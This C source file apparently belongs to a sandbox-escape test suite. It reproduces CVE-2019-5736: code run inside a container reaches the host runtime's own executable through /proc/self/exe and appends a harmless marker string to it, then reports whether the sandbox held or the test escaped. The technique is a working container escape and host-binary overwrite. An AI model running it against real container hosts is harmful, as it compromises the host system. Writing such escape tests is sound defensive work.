/*
 * Attack: overwrite the runtime's own program file on the host (CVE-2019-5736). The image's entry
 * is a script whose interpreter is /proc/self/exe, so that the runtime starts itself, now inside;
 * and this program lies where the runtime's loader is looked for. It then runs in a process whose
 * executable is the host's file, takes a descriptor of that, becomes another program, since a
 * running one can't be written, and writes.
 * Layer: the file is not the sandbox's to write, or a sealed copy in memory; a static program.
 * Source: ld.so(8), proc_pid_exe(5), open(2) ETXTBSY.
 */
#include "attack.h"

static void start(char **args)
{
    int fd = open("/proc/self/exe", O_RDONLY);
    char number[16];

    if (fd < 0)
        held("/proc/self/exe: %s", strerror(errno));
    snprintf(number, sizeof number, "%d", fd);
    execl("/attack/self_exe", "self_exe", "append", number, (char *)NULL);
    impossible("execl: %s", strerror(errno));
}

static void append(char **args)
{
    static const char mark[] = "written from inside";
    char path[64];
    int fd;

    snprintf(path, sizeof path, "/proc/self/fd/%s", need_arg(args, 0));
    fd = open(path, O_WRONLY | O_APPEND);
    if (fd < 0)
        held("%s: %s", path, strerror(errno));
    if (write(fd, mark, sizeof mark - 1) < 0)
        held("write: %s", strerror(errno));
    escaped("wrote to the runtime's file");
}

ATTACK({"start", start}, {"append", append})
